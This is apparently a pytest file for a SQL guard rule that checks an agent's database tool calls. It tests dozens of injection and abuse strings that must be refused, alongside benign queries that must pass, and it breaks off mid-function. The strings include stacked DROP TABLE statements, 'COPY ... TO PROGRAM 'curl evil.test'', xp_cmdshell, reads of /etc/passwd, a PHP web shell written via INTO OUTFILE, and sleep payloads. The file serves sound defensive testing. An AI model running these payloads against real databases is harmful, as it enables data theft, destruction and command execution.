"""The sql rule: what gets through a grep must not get through a parser, and plain queries must pass."""

from __future__ import annotations

import contextlib
import logging
import sqlite3
import subprocess
import sys
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fcguard.errors import ConfigurationError
from fcguard.rules.database import sql

READ = {"allow": {"select"}}
CHANGE = {"allow": {"select", "insert", "update", "delete"}}
BOUND = {"allow": {"select", "update", "delete"}, "require_bound": True}

TRICKS: list[tuple[str | None, dict[str, Any], str]] = [
    # several statements
    (None, READ, "COMMIT; DROP TABLE users; SELECT 1"),
    (None, READ, "SELECT 1; DELETE FROM users"),
    (None, READ, "SELECT 1;SELECT 2"),
    (None, READ, "SELECT 1 ; -- a\n DROP TABLE t"),
    (None, READ, "SELECT 1; /* a */ DROP TABLE t"),
    (None, READ, ";DROP TABLE t"),
    ("tsql", READ, "SELECT 1\nWAITFOR DELAY '99:0:0'"),
    (None, READ, "SELECT 1\nWAITFOR DELAY '99:0:0'"),
    ("tsql", READ, "SELECT 1 SHUTDOWN"),
    (None, READ, "SELECT 1 SHUTDOWN"),
    ("tsql", READ, "SELECT .5 SHUTDOWN"),
    ("tsql", READ, "SELECT * FROM t CHECKPOINT"),
    ("tsql", READ, "SELECT 1\nEXEC xp_cmdshell 'dir'"),
    ("tsql", READ, "SELECT * FROM t\nDROP TABLE t"),
    ("tsql", READ, "SELECT (1) DELETE FROM t"),
    (None, READ, "WITH a AS (SELECT 1 AS x) SELECT (1) DELETE FROM t"),
    ("tsql", READ, "SELECT 1 UPDATE t SET a = 1"),
    ("tsql", READ, "SELECT a FROM t ORDER BY a DESC RECONFIGURE"),
    ("tsql", READ, "SELECT 1\nGO\nDROP TABLE t"),
    ("tsql", READ, "IF 1=1 DROP TABLE t"),
    ("tsql", READ, "DECLARE @a varchar(9) = 'x' SELECT @a"),
    # a first word that is not the statement
    (None, READ, "/* note */ UPDATE t SET a = 1 WHERE 1=1"),
    (None, READ, "-- note\nDELETE FROM t"),
    (None, READ, "(DELETE FROM t)"),
    ("postgres", READ, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"),
    ("postgres", READ, "WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i"),
    ("postgres", READ, "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u"),
    ("postgres", READ, "SELECT * INTO copy_of_users FROM users"),
    ("tsql", READ, "SELECT * INTO #x FROM users"),
    ("mysql", READ, "SELECT * FROM users INTO OUTFILE '/var/www/x.php'"),
    ("mysql", READ, "SELECT '<?php' INTO DUMPFILE '/var/www/x.php'"),
    ("postgres", READ, "EXPLAIN ANALYZE DELETE FROM t"),
    ("mysql", READ, "EXPLAIN DELETE FROM t"),
    ("postgres", READ, "COPY users TO PROGRAM 'curl evil.test'"),
    ("postgres", READ, "COPY (SELECT * FROM users) TO '/tmp/x'"),
    ("postgres", READ, "DO $$ BEGIN DELETE FROM t; END $$"),
    ("postgres", READ, "CALL purge()"),
    ("postgres", READ, "SET ROLE postgres"),
    ("postgres", READ, "GRANT ALL ON t TO public"),
    ("postgres", READ, "PREPARE p AS DELETE FROM t"),
    ("postgres", READ, "VACUUM FULL"),
    ("postgres", READ, "LOCK TABLE t"),
    ("postgres", READ, "TRUNCATE t"),
    ("postgres", READ, "ALTER TABLE t DROP COLUMN a"),
    ("postgres", READ, "CREATE TABLE x AS SELECT * FROM users"),
    ("postgres", READ, "SELECT * FROM t FOR UPDATE"),
    ("postgres", READ, "SELECT * FROM t FOR SHARE"),
    ("tsql", READ, "SELECT * FROM t WITH (TABLOCKX)"),
    ("sqlite", READ, "PRAGMA writable_schema = 1"),
    ("sqlite", READ, "ATTACH DATABASE '/etc/x.db' AS y"),
    ("mysql", READ, "REPLACE INTO t VALUES (1)"),
    ("mysql", READ, "HANDLER t OPEN"),
    ("mysql", READ, "LOAD DATA INFILE '/etc/passwd' INTO TABLE t"),
    ("mysql", READ, "KILL 5"),
    ("mysql", {"allow": {"insert"}}, "INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a = 2"),
    ("postgres", {"allow": {"insert"}}, "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2"),
    ("sqlite", {"allow": {"insert"}}, "INSERT OR REPLACE INTO t (a) VALUES (1)"),
    # comments and quotes that are read in different ways
    ("mysql", READ, "SELECT 1 /*!50000 UNION SELECT sleep(5) */"),
    ("mysql", READ, "/*!50000 DROP TABLE t */"),
    (None, READ, "SELECT 1 /*M!100000 , sleep(5) */"),
    (None, READ, "SELECT 1 /* /* */ , load_file('/etc/passwd') -- */ */"),
    ("mysql", READ, "SELECT 1 --1; DROP TABLE t"),
    (None, READ, "SELECT 1 --1\n, 2"),
    (None, READ, "SELECT 'a\\' , load_file(char(47)) -- '"),
    (None, READ, "SELECT $$ ; DROP TABLE t ; $$"),
    (None, READ, "SELECT 1 # ' \n FROM t"),
    (None, READ, "SELECT x['] ; DROP TABLE t -- ']"),
    (None, READ, "SELECT `a'` FROM t -- '"),
    (None, READ, "SELECT 1 {# x #} FROM t"),
    (None, READ, "SELECT 1 /* open"),
    (None, READ, "SELECT 'open"),
    (None, READ, "SELECT 1\x00"),
    (None, READ, "SELECT 1 -- a\rDROP TABLE t"),
    (None, READ, "SELECT\u200b1"),
    (None, READ, "SELECT 1 \\g"),
    # functions that act
    ("postgres", READ, "SELECT pg_sleep(60)"),
    ("postgres", READ, "SELECT pg_catalog.pg_sleep(60)"),
    ("postgres", READ, 'SELECT "pg_sleep"(60)'),
    ("postgres", READ, "SELECT 1 FROM t, LATERAL pg_sleep(60)"),
    ("postgres", READ, "SELECT * FROM ROWS FROM (pg_sleep(60)) AS x"),
    ("postgres", READ, "SELECT a FROM t ORDER BY (SELECT pg_sleep(60))"),
    ("postgres", READ, "SELECT pg_read_file('/etc/passwd')"),
    ("postgres", READ, "SELECT lo_import('/etc/passwd')"),
    ("postgres", READ, "SELECT * FROM dblink('host=evil', 'select 1') AS x(a int)"),
    ("postgres", READ, "SELECT pg_terminate_backend(1)"),
    ("postgres", READ, "SELECT set_config('role', 'postgres', false)"),
    ("postgres", READ, "SELECT nextval('s')"),
    ("postgres", READ, "SELECT query_to_xml('delete from t', true, true, '')"),
    ("postgres", READ, "SELECT purge_everything()"),
    ("tsql", READ, "SELECT NEXT VALUE FOR s"),
    ("mysql", READ, "SELECT SLEEP(60)"),
    ("mysql", READ, "SELECT BENCHMARK(1000000000, MD5('a'))"),
    ("mysql", READ, "SELECT LOAD_FILE('/etc/passwd')"),
    ("mysql", READ, "SELECT GET_LOCK('a', 100)"),
    ("mysql", READ, "SELECT a FROM t WHERE id = IF(1=1, SLEEP(9), 0)"),
    ("tsql", READ, "SELECT * FROM OPENROWSET('a', 'b', 'c')"),
    ("sqlite", READ, "SELECT load_extension('/tmp/x.so')"),
    ("oracle", READ, "SELECT UTL_HTTP.REQUEST('http://evil.test') FROM dual"),
    ("oracle", READ, "SELECT utl_inaddr.get_host_name FROM dual"),
    ("oracle", READ, "SELECT sys.dbms_pipe.receive_message('a', 60) FROM dual"),
    ("duckdb", READ, "SELECT * FROM read_csv('/etc/passwd')"),
    ("duckdb", READ, "SELECT * FROM '/etc/passwd.csv'"),
    ("clickhouse", READ, "SELECT * FROM url('http://evil.test', CSV)"),
    ("clickhouse", READ, "SELECT * FROM file('/etc/passwd')"),
    ("hive", READ, "SELECT TRANSFORM(a) USING 'bash -c id' FROM t"),
    ("spark", READ, "SELECT * FROM parquet.`/etc/x`"),
    ("snowflake", READ, "SELECT * FROM @stage/file"),
    ("oracle", READ, "SELECT a FROM t@elsewhere"),
    ("postgres", READ, "SELECT * FROM pg_shadow"),
    ("mysql", READ, "SELECT * FROM mysql.user"),
    # bounds that bound nothing
    (None, BOUND, "DELETE FROM t"),
    (None, BOUND, "DELETE FROM t WHERE 1=1"),
    (None, BOUND, "DELETE FROM t WHERE TRUE"),
    (None, BOUND, "DELETE FROM t WHERE id = id"),
    (None, BOUND, "DELETE FROM t WHERE id = 5 OR 1 = 1"),
    (None, BOUND, "DELETE FROM t WHERE id = 5 OR id <> 5"),
    (None, BOUND, "DELETE FROM t WHERE id > 0"),
    (None, BOUND, "DELETE FROM t WHERE id >= -1"),
    (None, BOUND, "DELETE FROM t WHERE id <> 0"),
    (None, BOUND, "DELETE FROM t WHERE id != -1"),
    (None, BOUND, "DELETE FROM t WHERE NOT id = -1"),
    (None, BOUND, "DELETE FROM t WHERE NOT (1 = 2)"),
    (None, BOUND, "DELETE FROM t WHERE id IS NOT NULL"),
    (None, BOUND, "DELETE FROM t WHERE id NOT IN (1)"),
    (None, BOUND, "DELETE FROM t WHERE id IN (id)"),
    (None, BOUND, "DELETE FROM t WHERE id IN (SELECT id FROM t)"),
    (None, BOUND, "DELETE FROM t WHERE EXISTS (SELECT 1)"),
    (None, BOUND, "DELETE FROM t WHERE name LIKE '%'"),
    (None, BOUND, "DELETE FROM t WHERE name LIKE '%_%'"),
    (None, BOUND, "DELETE FROM t WHERE name LIKE '_%' ESCAPE '!'"),
    (None, BOUND, "DELETE FROM t WHERE 'a' = 'a'"),
    (None, BOUND, "DELETE FROM t WHERE 1 IN (1, 2)"),
    (None, BOUND, "DELETE FROM t WHERE 5"),
    (None, BOUND, "DELETE FROM t WHERE (id = 1) = (id = 1)"),
    (None, BOUND, "DELETE FROM t WHERE id = 1 = 0"),
    (None, BOUND, "DELETE FROM t WHERE COALESCE(id, 1) = COALESCE(id, 1)"),
    (None, BOUND, "DELETE FROM t WHERE id * 0 = 0"),
    (None, BOUND, "DELETE FROM t WHERE LENGTH(name) >= 0"),
    (None, BOUND, "DELETE FROM t WHERE id BETWEEN 0 AND 999999999999"),
    (None, BOUND, "DELETE FROM t WHERE id >= 0 AND id <= 999999999999"),
    (None, BOUND, "DELETE FROM t WHERE created_at > '1970-01-01'"),
    (None, BOUND, "DELETE FROM t WHERE created_at < '9999-12-31'"),
    (None, BOUND, "DELETE FROM t WHERE created_at <= now()"),
    (None, BOUND, "DELETE FROM t WHERE created_at < now() + interval '1 day'"),
    (None, BOUND, "DELETE FROM t WHERE created_at > now() - interval '100 years'"),
    (None, BOUND, "DELETE FROM t WHERE created_at BETWEEN '1900-01-01' AND '2999-01-01'"),
    (None, BOUND, "DELETE FROM t WHERE active"),
    (None, BOUND, "DELETE FROM t WHERE active = TRUE"),
    (None, BOUND, "DELETE FROM t WHERE id = NULL"),
    (None, BOUND, "DELETE FROM t WHERE id BETWEEN a AND b"),
    (None, BOUND, "DELETE FROM t WHERE name BETWEEN 'a' AND 'zzz'"),
    (None, BOUND, "DELETE FROM t WHERE created_at > '2026-99-99'"),
    (None, BOUND, "DELETE FROM t WHERE created_at > now() - interval '1 century'"),
    (None, BOUND, "DELETE FROM t WHERE created_at < now() - interval '0 days'"),
    (None, BOUND, "DELETE FROM t WHERE created_at < now() - interval '-5 days'"),
    (None, BOUND, "DELETE FROM t WHERE created_at > x - 7"),
    (None, BOUND, "DELETE FROM t WHERE created_at > '1980-01-01' AND created_at < ?"),
    (None, BOUND, "DELETE FROM t WHERE CAST(name AS SIGNED) = 0"),
    (None, BOUND, "DELETE FROM t WHERE name LIKE ?"),
    (None, BOUND, "DELETE FROM t WHERE id > ?"),
    (None, BOUND, "DELETE FROM t WHERE id IN (SELECT id FROM u WHERE 1 = 1)"),
    (None, BOUND, "DELETE FROM t WHERE id = (SELECT max(id) FROM u GROUP BY x)"),
    ("sqlite", BOUND, "SELECT * FROM t WHERE d <= datetime('now')"),
    ("sqlite", BOUND, "SELECT * FROM t WHERE d >= date(d, '-7 days')"),
    ("oracle", BOUND, "SELECT * FROM t WHERE ROWNUM > 10"),
    ("oracle", BOUND, "SELECT * FROM t WHERE ROWNUM <= 99999999"),
    ("postgres", BOUND, "SELECT * FROM t WHERE ROWNUM <= 10"),
    ("postgres", BOUND, "SELECT * FROM t FETCH FIRST 10 ROWS WITH TIES"),
    ("postgres", BOUND, "DELETE FROM t USING u WHERE u.id = 5"),
    ("mysql", BOUND, "DELETE t1, t2 FROM t1 JOIN t2 WHERE t1.id = 5"),
    ("mysql", BOUND, "UPDATE t1, t2 SET t2.a = 1 WHERE t1.id = 5"),
    ("postgres", BOUND, "UPDATE t SET a = 1 FROM u WHERE id = 5"),
    (None, BOUND, "UPDATE t SET a = 1"),
    (None, BOUND, "UPDATE t SET a = (SELECT 1 WHERE 1 = 1)"),
    ("postgres", {"allow": {"select", "delete"}}, "WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d"),
    (None, BOUND, "SELECT * FROM t"),
    (None, BOUND, "SELECT * FROM t LIMIT 999999999"),
    (None, BOUND, "SELECT * FROM t LIMIT 1000000000 OFFSET 5"),
    ("sqlite", BOUND, "SELECT * FROM t LIMIT -1"),
    ("postgres", BOUND, "SELECT * FROM t LIMIT ALL"),
    ("postgres", BOUND, "SELECT * FROM t LIMIT NULL"),
    ("postgres", BOUND, "SELECT * FROM t LIMIT 10 * 1000000"),
    ("tsql", BOUND, "SELECT TOP 100 PERCENT * FROM t"),
    ("oracle", BOUND, "SELECT * FROM t FETCH FIRST 100 PERCENT ROWS ONLY"),
    (None, BOUND, "SELECT * FROM t WHERE id = 5 UNION ALL SELECT * FROM t"),
    (None, BOUND, "SELECT * FROM (SELECT * FROM t) x"),
    (None, BOUND, "SELECT count(*) OVER () FROM t"),
    ("postgres", BOUND, "SELECT string_agg(name, ',') FROM t"),
    (None, BOUND, "SELECT status, count(*) FROM t GROUP BY status"),
]

HARMLESS: list[tuple[str | None, dict[str, Any], str]] = [
    (None, READ, "SELECT id FROM notes WHERE body = 'a; drop table x'"),
    (None, READ, "SELECT 1"),
    (None, READ, "SELECT 1;"),
    (None, READ, "  select 1 ; \n"),
    (None, READ, "SELECT 'it''s; DELETE FROM t' AS text"),
    (None, READ, "SELECT '-- not a comment' FROM t"),
    (None, READ, "SELECT '/* not a comment */' FROM t"),
    (None, READ, "SELECT '/*! not run */' FROM t"),
    (None, READ, "SELECT a -- the first\nFROM t"),
    (None, READ, "/* report */ SELECT a FROM t"),
    (None, READ, "SELECT update_time, delete_flag, created FROM t"),
    (None, READ, "SELECT deleted, inserted, dropped FROM t"),
    (None, READ, 'SELECT "update", "drop" FROM t'),
    (None, READ, "SELECT `id`, `name` FROM `orders` WHERE `id` = 5"),
    ("mysql", READ, "SELECT `select` FROM `table`"),
    ("tsql", READ, "SELECT [update], [exec] FROM [dbo].[orders]"),
    ("tsql", READ, "SELECT TOP 10 a\nFROM t\nWHERE b = 1\nORDER BY a DESC"),
    ("tsql", READ, "SELECT a FROM t ORDER BY a OFFSET 0 ROWS FETCH NEXT 10 ROWS ONLY"),
    ("tsql", READ, "SELECT t.[use], GETDATE() AS today FROM t"),
    (None, READ, "SELECT open, close FROM prices WHERE open < close"),
    (None, READ, "SELECT replace(name, 'a', 'b') FROM t"),
    (None, READ, "SELECT a FROM t WHERE a IN (SELECT b FROM u)"),
    (None, READ, "WITH x AS (SELECT a FROM t) SELECT a FROM x"),
    (None, READ, "SELECT a FROM t UNION ALL SELECT b FROM u"),
    (None, READ, "(SELECT a FROM t)"),
    (None, READ, "SELECT CASE WHEN a = 1 THEN 'x' ELSE 'y' END FROM t"),
    (None, READ, "SELECT count(*), sum(a), avg(b) FROM t GROUP BY c HAVING count(*) > 1"),
    (None, READ, "SELECT a, row_number() OVER (PARTITION BY b ORDER BY c) FROM t"),
    (None, READ, "SELECT coalesce(a, 0), lower(b), now() FROM t"),
    (None, READ, "SELECT * FROM orders o JOIN users u ON o.user_id = u.id WHERE u.name LIKE '%drop%'"),
    (None, READ, "SELECT * FROM t WHERE a = ? AND b = :name"),
    (None, READ, "SELECT * FROM t WHERE a = %s AND b = %s LIMIT 5"),
    (None, READ, "SELECT a % s FROM t"),
    (None, READ, "SELECT '订单；删除' FROM 订单 WHERE 状态 = '已支付'"),
    (None, READ, "SELECT a FROM t WHERE note = 'C:\\temp'"),
    (None, READ, "VALUES (1), (2)"),
    ("postgres", READ, "SELECT data->>'name' FROM t WHERE data @> '{\"a\": 1}'"),
    ("postgres", READ, "SELECT $tag$ ; DROP TABLE x ; $tag$"),
    ("postgres", READ, "SELECT a::int, b::text FROM t WHERE c = ANY(ARRAY[1, 2])"),
    ("postgres", READ, "SELECT date_trunc('day', created_at) AS day, count(*) FROM t GROUP BY 1"),
    ("postgres", READ, "SELECT * FROM generate_series(1, 10)"),
    ("postgres", READ, "SELECT jsonb_array_elements(a) FROM t"),
    ("postgres", READ, "SELECT name FROM users WHERE email = 'x@example.test'"),
    ("postgres", READ, "TABLE orders"),
    ("mysql", READ, "SELECT 'it\\'s' FROM t # a note"),
    ("mysql", READ, "SELECT a FROM t USE INDEX (i) WHERE a = 1"),
    ("mysql", READ, "SELECT DATE_FORMAT(d, '%Y-%m') FROM t LIMIT 5, 10"),
    ("mysql", READ, "SELECT 1--1"),
    ("mysql", READ, "SELECT IF(a > 1, 'x', 'y'), CONCAT(a, b) FROM t"),
    ("sqlite", READ, "SELECT strftime('%Y', d), julianday('now') FROM t"),
    ("sqlite", READ, "SELECT name FROM sqlite_master WHERE type = 'table'"),
    ("oracle", READ, "SELECT SYSDATE FROM dual"),
    ("bigquery", READ, "SELECT a FROM `project.dataset.table` WHERE d = DATE '2026-01-01'"),
    ("snowflake", READ, "SELECT a, b:c::string FROM t QUALIFY row_number() OVER (ORDER BY a) = 1"),
    ("duckdb", READ, "FROM t SELECT a"),
    ("clickhouse", READ, "SELECT uniq(a), toStartOfMonth(d) FROM t GROUP BY 2"),
    ("postgres", {"allow": {"insert"}}, "INSERT INTO t (a) VALUES (1)"),
    ("postgres", {"allow": {"insert"}}, "INSERT INTO t (a) VALUES (1) ON CONFLICT DO NOTHING"),
    ("postgres", CHANGE, "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2"),
    ("mysql", CHANGE, "INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a = 2"),
    (None, CHANGE, "INSERT INTO t (a) SELECT a FROM u"),
    (None, CHANGE, "UPDATE t SET note = 'WHERE 1=1' WHERE id = 5"),
    (None, CHANGE, "WITH x AS (SELECT 1 AS id) UPDATE t SET a = 1 WHERE id = 1"),
    ("postgres", CHANGE, "SELECT * FROM t FOR UPDATE"),
    # bounds that bound
    (None, BOUND, "DELETE FROM t WHERE id = 5"),
    (None, BOUND, "DELETE FROM t WHERE 5 = id"),
    (None, BOUND, "DELETE FROM t WHERE id IN (1, 2, 3)"),
    (None, BOUND, "DELETE FROM t WHERE id = ?"),
    (None, BOUND, "DELETE FROM t WHERE id = 5 OR id = 6"),
    (None, BOUND, "DELETE FROM t WHERE id = 5 AND 1 = 1"),
    (None, BOUND, "DELETE FROM t WHERE ((id = 5)) AND name <> 'x'"),
    (None, BOUND, "DELETE FROM t WHERE id BETWEEN 10 AND 20"),
    (None, BOUND, "DELETE FROM t WHERE id >= 10 AND 20 > id"),
    (None, BOUND, "DELETE FROM t WHERE created_at < '2020-01-01'"),
    (None, BOUND, "DELETE FROM t WHERE created_at < now() - interval '90 days'"),
    (None, BOUND, "DELETE FROM t WHERE name LIKE 'tmp_%'"),
    (None, BOUND, "DELETE FROM t WHERE id = (SELECT max(id) FROM u)"),
    (None, BOUND, "DELETE FROM t WHERE id = -5"),
    (None, BOUND, "DELETE FROM t WHERE id BETWEEN -5 AND 5"),
    (None, BOUND, "SELECT * FROM t WHERE created_at > now()"),
    (None, BOUND, "SELECT * FROM t WHERE created_at BETWEEN '2026-01-01' AND now()"),
    (None, BOUND, "SELECT * FROM t WHERE created_at BETWEEN now() - interval '7 days' AND now()"),
    (None, BOUND, "SELECT * FROM t WHERE d > datetime('now', '-1 hour')"),
    ("tsql", {"allow": {"select"}}, "SELECT * FROM t WITH (NOLOCK)"),
    ("postgres", BOUND, "SELECT * FROM t WHERE d > now() - '7 days'::interval"),
    ("oracle", BOUND, "SELECT * FROM t WHERE d > SYSDATE - 7"),
    (None, {"allow": {"insert"}, "require_bound": True}, "INSERT INTO t (a) VALUES (1), (2)"),
    (None, {"allow": {"insert"}, "require_bound": True}, "INSERT INTO t (a) SELECT a FROM u WHERE id = 5"),
    ("sqlite", {"allow": {"insert"}, "require_bound": True}, "INSERT INTO t DEFAULT VALUES"),
    (None, BOUND, "DELETE FROM t WHERE id IN (SELECT id FROM u WHERE owner = 'x')"),
    (None, BOUND, "DELETE FROM t WHERE lower(email) = 'a@example.test'"),
    (None, BOUND, "DELETE FROM t WHERE (a, b) = (1, 2)"),
    ("mysql", BOUND, "DELETE FROM t WHERE a <> 1 LIMIT 10"),
    ("postgres", BOUND, "DELETE FROM t USING u WHERE t.id = 5 AND u.id = t.id"),
    ("mysql", BOUND, "UPDATE t1 JOIN t2 ON t1.a = t2.a SET t1.b = 1 WHERE t1.id = 5"),
    ("tsql", BOUND, "UPDATE a SET x = 1 FROM t a JOIN u ON a.i = u.i WHERE a.id = 5"),
    (None, BOUND, "UPDATE t SET a = a + 1 WHERE id = 5"),
    (None, BOUND, "SELECT * FROM t LIMIT 100"),
    (None, BOUND, "SELECT * FROM t WHERE created_at >= '2026-01-01'"),
    (None, BOUND, "SELECT * FROM t WHERE created_at >= '2026-01-01' AND created_at < '2026-02-01'"),
    (None, BOUND, "SELECT * FROM t WHERE created_at BETWEEN '2026-01-01' AND '2026-02-01'"),
    (None, BOUND, "SELECT * FROM t WHERE created_at > CURRENT_DATE - 7"),
    ("mysql", BOUND, "SELECT * FROM t WHERE d >= DATE_SUB(NOW(), INTERVAL 7 DAY)"),
    ("tsql", BOUND, "SELECT * FROM t WHERE d >= DATEADD(day, -7, GETDATE())"),
    ("sqlite", BOUND, "SELECT * FROM t WHERE d >= date('now', '-7 days')"),
    ("postgres", BOUND, "SELECT * FROM t WHERE d >= '2026-01-01'::date"),
    (None, BOUND, "SELECT * FROM t WHERE created_at BETWEEN ? AND ?"),
    (None, BOUND, "SELECT 1"),
    (None, BOUND, "SELECT count(*), max(id) FROM t"),
    (None, BOUND, "SELECT * FROM (SELECT * FROM t LIMIT 5) x"),
    (None, BOUND, "SELECT * FROM t WHERE status = 'open' UNION ALL SELECT * FROM u WHERE id = 1"),
    ("tsql", BOUND, "SELECT TOP (10) * FROM t"),
    ("oracle", BOUND, "SELECT * FROM t FETCH FIRST 10 ROWS ONLY"),
    ("oracle", BOUND, "SELECT * FROM t WHERE ROWNUM <= 10"),
    ("postgres", BOUND, "SELECT * FROM t WHERE data->>'id' = '5'"),
    (None, BOUND, "SELECT * FROM t WHERE a IS NOT NULL LIMIT 10"),
]


def test_the_tables_are_large_enough() -> None:
    assert len({text for _, _, text in TRICKS}) >= 60
    assert len({text for _, _, text in HARMLESS}) >= 60


@pytest.mark.parametrize(
    ("dialect", "options", "text"), TRICKS, ids=lambda value: value[:60] if isinstance(value, str) else None
)
def test_no_trick_gets_through(dialect: str | None, options: dict[str, Any], text: str, make_call: Any) -> None:
    violation = sql("sql", dialect=dialect, **options)(make_call({"sql": text}))
    assert violation is not None
    assert violation.code in ("PARAM_INVALID", "PARAM_TOO_BROAD")
    assert violation.next_action == "fix_arguments"
    assert violation.message.startswith("sql: ")


@pytest.mark.parametrize(
    ("dialect", "options", "text"), HARMLESS, ids=lambda value: value[:60] if isinstance(value, str) else None
)
def test_no_plain_statement_is_refused(dialect: str | None, options: dict[str, Any], text: str, make_call: Any) -> None:
    assert sql("sql", dialect=dialect, **options)(make_call({"sql": text})) is None


@pytest.mark.parametrize("value", [5, True, ["SELECT 1"], {"a": 1}, 1.5])
def test_another_type_is_refused(value: Any, make_call: Any) -> None:
    assert sql()(make_call({"sql": value})).code == "PARAM_INVALID"


def test_refusals_tell_what_would_be_accepted(make_call: Any) -> None:
    rule = sql(allow={"select", "update"}, tables={"orders"}, require_bound=True)
    assert "select, update" in rule(make_call({"sql": "DELETE FROM orders"})).message
    assert "allowed: orders" in rule(make_call({"sql": "SELECT 1 FROM users"})).message
    broad = rule(make_call({"sql": "SELECT * FROM orders"}))
    assert (broad.code, "LIMIT of at most 1000" in broad.message) == ("PARAM_TOO_BROAD", True)
    assert "LIMIT" not in rule(make_call({"sql": "UPDATE orders SET a = 1"})).message
    assert "longer" in rule(make_call({"sql": "SELECT 1" + " " * 20_000})).message


@pytest.mark.parametrize(
    ("text", "passes"),
    [
        ("SELECT * FROM orders", True),
        ("SELECT * FROM Orders", True),
        ("SELECT * FROM public.users", True),
        ("SELECT * FROM users", False),
        ("SELECT * FROM other.orders", False),
        ("SELECT * FROM orders, secrets", False),
        ("SELECT (SELECT a FROM secrets) FROM orders", False),
        ("WITH x AS (SELECT 1) SELECT * FROM x", True),
        ("WITH x AS (SELECT * FROM orders) SELECT * FROM x JOIN orders ON 1 = 1", True),
        ("WITH x AS (SELECT * FROM secrets) SELECT * FROM x", False),
        ("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", False),
        ("WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a", False),
        ("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", True),
        ("WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT * FROM n LIMIT 5", True),
        ("SELECT * FROM orders WHERE id IN (WITH secrets AS (SELECT 1 AS id) SELECT id FROM secrets)", True),
        ("SELECT * FROM secrets WHERE id IN (WITH secrets AS (SELECT 1 AS id) SELECT id FROM secrets)", False),
        ('WITH secrets AS (SELECT 1) SELECT * FROM "SECRETS"', False),
        ('WITH "Mine" AS (SELECT 1) SELECT * FROM "Mine"', True),
        ("WITH secrets AS (SELECT 1) SELECT * FROM orders JOIN secrets ON true", True),
        ("SELECT * FROM x.n, (WITH n AS (SELECT 1) SELECT * FROM n) AS y", False),
    ],
)
def test_only_listed_tables(text: str, passes: bool, make_call: Any) -> None:
    assert (sql(dialect="postgres", tables=["orders", "public.users"])(make_call({"sql": text})) is None) is passes


@pytest.mark.parametrize(
    "text",
    [
        "WITH secrets AS (SELECT 1 AS id) DELETE FROM secrets WHERE id = 1",
        "WITH secrets AS (SELECT 1 AS id) UPDATE secrets SET a = 1 WHERE id = 1",
        "WITH secrets AS (SELECT 1 AS id) INSERT INTO secrets SELECT id FROM secrets",
        "WITH secrets AS (SELECT 1 AS id) INSERT INTO secrets (id) SELECT id FROM secrets",
    ],
)
def test_a_with_does_not_hide_what_is_changed(text: str, make_call: Any) -> None:
    assert "secrets" in sql(dialect="postgres", tables=["orders"], **CHANGE)(make_call({"sql": text})).message


def test_functions_can_be_allowed_and_forbidden(make_call: Any) -> None:
    text = {"sql": "SELECT my_total(a), pg_sleep(1), lower(b) FROM t"}
    assert "my_total" in sql(dialect="postgres")(make_call(text)).message
    assert "pg_sleep" in sql(dialect="postgres", allow_functions=["my_*"])(make_call(text)).message
    assert sql(dialect="postgres", allow_functions=["my_*", "PG_SLEEP"])(make_call(text)) is None
    assert (
        "lower"
        in sql(dialect="postgres", allow_functions=["my_*", "pg_sleep"], forbid_functions=["lower"])(
            make_call(text)
        ).message
    )


def test_the_largest_limit_can_be_set(make_call: Any) -> None:
    rule = sql(require_bound=True, max_limit=10)
    assert rule(make_call({"sql": "SELECT * FROM t LIMIT 10"})) is None
    assert rule(make_call({"sql": "SELECT * FROM t LIMIT 11"})) is not None
    assert sql(allow=["delete"], require_bound=False)(make_call({"sql": "DELETE FROM t"})) is None


@pytest.mark.parametrize("kind", ["create", "drop", "alter", "truncate", "merge"])
def test_other_kinds_can_be_allowed(kind: str, make_call: Any) -> None:
    texts = {
        "create": "CREATE TABLE t (a INT)",
        "drop": "DROP TABLE IF EXISTS t",
        "alter": "ALTER TABLE t DROP COLUMN a",
        "truncate": "TRUNCATE TABLE t",
        "merge": "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = 1",
    }
    allow = {kind, "update"} if kind == "merge" else {kind}
    assert sql(allow=allow)(make_call({"sql": texts[kind]})) is None
    for other, text in texts.items():
        if other != kind:
            assert sql(allow=allow)(make_call({"sql": text})) is not None


@pytest.mark.parametrize(
    "options",
    [
        {"allow": []},
        {"allow": "select"},
        {"allow": ["selct"]},
        {"dialect": "klingon"},
        {"require_bound": ["drop"]},
        {"require_bound": "select"},
        {"max_limit": 0},
        {"max_limit": True},
        {"tables": "orders"},
    ],
)
def test_options_are_checked_when_the_rule_is_built(options: dict[str, Any]) -> None:
    with pytest.raises(ConfigurationError, match="sql"):
        sql(**options)


@pytest.mark.parametrize(
    "text", ["SELECT " + "(" * 6000 + "1" + ")" * 6000, "SELECT " + "f(" * 6000, "SELECT " + "NOT " * 4500 + "1"]
)
def test_deep_nesting_is_refused(text: str, make_call: Any) -> None:
    assert sql()(make_call({"sql": text})).code == "PARAM_INVALID"


_WORDS = [
    "SELECT",
    "1",
    "a",
    "FROM",
    "t",
    ";",
    "DROP TABLE t",
    "DELETE FROM t",
    "--",
    "/*",
    "*/",
    "'",
    '"',
    "\n",
    " ",
    "UNION",
    "(",
    ")",
    "WHERE",
    "=",
    ",",
    "`",
    "\\",
    "#",
    "$$",
    "AS",
    "*",
]


@given(text=st.lists(st.sampled_from(_WORDS), max_size=14).map(" ".join))
def test_what_passes_changes_nothing_in_a_real_database(text: str, make_call: Any) -> None:
    """Whatever the rule for SQLite lets through is run by SQLite itself, which tells every write it would do."""
    if sql(dialect="sqlite")(make_call({"sql": text})) is not None:
        return
    writes: list[int] = []
    connection = sqlite3.connect(":memory:")
    connection.execute("CREATE TABLE t (a)")
    reading = (sqlite3.SQLITE_SELECT, sqlite3.SQLITE_READ, sqlite3.SQLITE_FUNCTION, sqlite3.SQLITE_RECURSIVE)
    connection.set_authorizer(
